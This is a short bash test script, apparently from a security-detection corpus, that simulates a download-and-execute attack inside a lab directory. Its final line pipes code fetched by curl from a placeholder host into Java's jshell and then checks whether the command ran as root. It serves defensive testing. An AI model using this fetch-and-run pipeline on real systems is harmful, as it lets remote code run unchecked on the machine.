#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=download-execute half=report tool=curl,jshell far=out seconds=30 parts=dns,outside-web
# curl gives Java's shell (jshell) lines over a pipe, and it compiles and runs them as they come.
if [ "$1" = out ]; then mkdir -p "$LAB/outside/drop"; printf '%s\n' 'new ProcessBuilder("id").redirectOutput(new java.io.File(System.getenv("LAB") + "/ran")).start().waitFor();' 'Thread.sleep(3000);' '/exit' >"$LAB/outside/drop/lines"; sleep 32; exit 0; fi
sleep 2; curl -s http://relay.example.net/drop/lines | timeout 26 jshell --execution local -s -; sleep 1; grep -q uid=0 "$LAB/ran"
